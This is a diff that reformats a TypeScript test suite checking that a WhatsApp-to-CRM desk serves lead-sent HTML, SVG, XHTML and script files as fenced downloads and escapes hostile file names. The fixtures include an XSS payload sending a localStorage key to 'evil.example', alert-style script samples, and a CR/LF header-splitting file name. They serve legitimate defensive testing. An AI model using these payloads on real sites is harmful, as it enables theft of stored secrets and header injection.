@@ -15,7 +15,11 @@ const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0
 
 const ACTIVE = [
   ['text/html', 'oferta.html', '<script>fetch("//evil.example/?k="+localStorage.getItem("key"))</script>'],
-  ['image/svg+xml', 'plano.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'],
+  [
+    'image/svg+xml',
+    'plano.svg',
+    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>',
+  ],
   ['application/xhtml+xml', 'x.xhtml', '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>'],
   ['text/xml', 'x.xml', '<?xml version="1.0"?><x/>'],
   ['text/javascript', 'x.js', 'alert(1)'],
@@ -45,33 +49,52 @@ const expectFenced = (response: Response) => {
 };
 
 describe('files served to a browser', () => {
-  it.each(ACTIVE)('a %s document a lead sends is a fenced download on the phone, and never copied into the desk', async (mimeType, filename, text) => {
-    const phone = await phoneDesk();
-    const { fromPhone, fromCrm, inbound } = await sendFile(phone, { kind: 'document', mimeType, filename, dataBase64: base64(text) });
+  it.each(ACTIVE)(
+    'a %s document a lead sends is a fenced download on the phone, and never copied into the desk',
+    async (mimeType, filename, text) => {
+      const phone = await phoneDesk();
+      const { fromPhone, fromCrm, inbound } = await sendFile(phone, {
+        kind: 'document',
+        mimeType,
+        filename,
+        dataBase64: base64(text),
+      });
 
-    // The phone still holds what it sent, served as a download, fenced.
-    expect(fromPhone.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="${filename.replace('.', '\\.')}"`));
-    expectFenced(fromPhone);
-    expect(await fromPhone.text()).toBe(text);
-    // WhatsApp carries no such type: the desk refuses the copy before storing it, and the message says why.
-    expect(inbound?.content.unavailable).toMatch(/^unsupported_media_type: /);
-    expect(fromCrm.status).toBe(404);
-  });
+      // The phone still holds what it sent, served as a download, fenced.
+      expect(fromPhone.headers.get('content-disposition')).toMatch(
+        new RegExp(`^attachment; filename="${filename.replace('.', '\\.')}"`),
+      );
+      expectFenced(fromPhone);
+      expect(await fromPhone.text()).toBe(text);
+      // WhatsApp carries no such type: the desk refuses the copy before storing it, and the message says why.
+      expect(inbound?.content.unavailable).toMatch(/^unsupported_media_type: /);
+      expect(fromCrm.status).toBe(404);
+    },
+  );
 
-  it.each(ACTIVE)('a stored %s file (kept before the type checks, or by any other path) is a fenced download', async (mimeType, filename, text) => {
-    const phone = await phoneDesk();
-    const id = await phone.desk.container.get(TOKENS.MediaStore).put({ bytes: Buffer.from(text), mimeType, filename, owner: null });
+  it.each(ACTIVE)(
+    'a stored %s file (kept before the type checks, or by any other path) is a fenced download',
+    async (mimeType, filename, text) => {
+      const phone = await phoneDesk();
+      const id = await phone.desk.container
+        .get(TOKENS.MediaStore)
+        .put({ bytes: Buffer.from(text), mimeType, filename, owner: null });
 
-    const response = await phone.crm('GET', `/media/${id}`);
+      const response = await phone.crm('GET', `/media/${id}`);
 
-    expect(response.headers.get('content-disposition')).toMatch(new RegExp(`^attachment; filename="${filename.replace('.', '\\.')}"`));
-    expectFenced(response);
-    expect(await response.text()).toBe(text);
-  });
+      expect(response.headers.get('content-disposition')).toMatch(
+        new RegExp(`^attachment; filename="${filename.replace('.', '\\.')}"`),
+      );
+      expectFenced(response);
+      expect(await response.text()).toBe(text);
+    },
+  );
 
   it('a stored "image" labelled as SVG is a download too: the type decides, whatever its case or parameters', async () => {
     const phone = await phoneDesk();
-    const id = await phone.desk.container.get(TOKENS.MediaStore).put({ bytes: Buffer.from(ACTIVE[1][2]), mimeType: 'Image/SVG+XML; charset=utf-8', filename: null, owner: null });
+    const id = await phone.desk.container
+      .get(TOKENS.MediaStore)
+      .put({ bytes: Buffer.from(ACTIVE[1][2]), mimeType: 'Image/SVG+XML; charset=utf-8', filename: null, owner: null });
 
     const response = await phone.crm('GET', `/media/${id}`);
 
@@ -82,7 +105,11 @@ describe('files served to a browser', () => {
 
   it('a photo stays inline (the phone and the CRM show it), still fenced', async () => {
     const phone = await phoneDesk();
-    const { fromPhone, fromCrm } = await sendFile(phone, { kind: 'image', mimeType: 'image/png', dataBase64: PNG.toString('base64') });
+    const { fromPhone, fromCrm } = await sendFile(phone, {
+      kind: 'image',
+      mimeType: 'image/png',
+      dataBase64: PNG.toString('base64'),
+    });
 
     for (const response of [fromPhone, fromCrm]) {
       expectFenced(response);
@@ -95,7 +122,12 @@ describe('files served to a browser', () => {
   it('a hostile file name cannot split the header: quotes, CR/LF and non-ASCII are escaped', async () => {
     const phone = await phoneDesk();
     const filename = 'a"b\\c\r\nSet-Cookie: x=1; ñ.pdf';
-    const { fromPhone, fromCrm } = await sendFile(phone, { kind: 'document', mimeType: 'application/pdf', filename, dataBase64: base64('%PDF-1.4') });
+    const { fromPhone, fromCrm } = await sendFile(phone, {
+      kind: 'document',
+      mimeType: 'application/pdf',
+      filename,
+      dataBase64: base64('%PDF-1.4'),
+    });
 
     for (const response of [fromPhone, fromCrm]) {
       expectFenced(response);
@@ -108,12 +140,22 @@ describe('files served to a browser', () => {
 
   it('a file name with an unpaired surrogate (valid JSON) is served with U+FFFD in its place, not a 500', async () => {
     const phone = await phoneDesk();
-    await phone.send({ from: PHONE, media: { kind: 'document', mimeType: 'application/pdf', filename: 'plano\ud800.pdf', dataBase64: base64('%PDF-1.4') } });
+    await phone.send({
+      from: PHONE,
+      media: {
+        kind: 'document',
+        mimeType: 'application/pdf',
+        filename: 'plano\ud800.pdf',
+        dataBase64: base64('%PDF-1.4'),
+      },
+    });
     const shown = (await phone.messages(PHONE)).findLast((m) => m.from === 'lead');
 
     const response = await phone.request(shown?.media?.url ?? '/none');
 
     expect(response.status).toBe(200);
-    expect(response.headers.get('content-disposition')).toBe(`inline; filename="plano_.pdf"; filename*=UTF-8''plano%EF%BF%BD.pdf`);
+    expect(response.headers.get('content-disposition')).toBe(
+      `inline; filename="plano_.pdf"; filename*=UTF-8''plano%EF%BF%BD.pdf`,
+    );
   });
 });
